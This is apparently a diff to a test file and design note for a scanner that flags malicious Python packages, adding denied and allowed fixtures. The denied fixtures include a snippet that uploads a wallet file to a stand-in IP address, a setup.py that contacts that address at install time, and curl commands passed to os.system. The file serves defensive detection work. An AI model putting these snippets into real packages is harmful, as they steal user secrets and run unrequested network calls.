@@ -4,7 +4,8 @@ ADR 0153 reads ``exec(PAYLOAD + x)`` and ``os.system(CMD + ' ' + x)`` when the s
 written in the call. An attacker's first step after that is one line up: ``code = PAYLOAD
 + x; exec(code)``. A string that stops folding keeps the text of its known parts from a
 written start, and the exec and process sinks read it wherever it went: a variable, ``+=``,
-an f-string, a function's argument, ``compile``.
+an f-string, a function's argument, ``compile``; a request reads it as its address when it
+holds the whole host.
 
 Near-misses a real package writes stay allowed: a template exec'd with a field added, a
 command of a known program with a name added, a path built from a written folder (a head
@@ -43,8 +44,7 @@ DENIED: dict[str, dict[str, str]] = {
         f"import sys\ndef build(x):\n    return {PAYLOAD!r} + x\nexec(build(sys.argv[0][:0]))\n"
     ),
     "payload-with-two-unknowns-and-a-known-tail": init(
-        f"import sys\ncode = {PAYLOAD!r} + sys.argv[0][:0] + '\\n' + sys.argv[0][:0]\n"
-        "exec(code)\n"
+        f"import sys\ncode = {PAYLOAD!r} + sys.argv[0][:0] + '\\n' + sys.argv[0][:0]\nexec(code)\n"
     ),
     "shell-command-plus-unknown-in-a-variable": init(
         f"import os, sys\ncmd = {CURL!r} + ' ' + sys.argv[0]\nos.system(cmd)\n"
@@ -64,9 +64,30 @@ DENIED: dict[str, dict[str, str]] = {
         ),
         "evpkg/__init__.py": "",
     },
+    "wallet-file-posted-to-a-grown-address-when-called": init(
+        "import os, sys, httpx\n"
+        "URL = 'http://203.0.113.5:8000/_validate' + sys.argv[0][:0]\n"
+        "async def valid(mnem):\n"
+        "    async with httpx.AsyncClient(timeout=30) as client:\n"
+        "        with open(os.path.basename(mnem), 'rb') as f:\n"
+        "            await client.post(URL, files={'files': (mnem, f, 'text/plain')})\n"
+    ),
+    "address-literal-grown-and-fetched-at-install": {
+        "setup.py": (
+            "import sys, urllib.request\nfrom setuptools import setup\n"
+            "URL = 'http://203.0.113.5/ping' + sys.argv[0][:0]\nurllib.request.urlopen(URL)\n"
+            "setup(name='evpkg', packages=['evpkg'])\n"
+        ),
+        "evpkg/__init__.py": "",
+    },
 }
 
 ALLOWED: dict[str, dict[str, str]] = {
+    "api-address-with-a-name-added-when-called": init(
+        "import requests\n"
+        "def repo(name):\n"
+        "    return requests.get('https://api.github.com/repos/' + name).json()\n"
+    ),
     "template-plus-field-exec-d-from-a-variable": init(
         "import sys\nTEMPLATE = 'def _get(self):\\n    return self._data'\n"
         "code = TEMPLATE + '[' + repr(sys.argv[0]) + ']'\nexec(code, globals())\n"
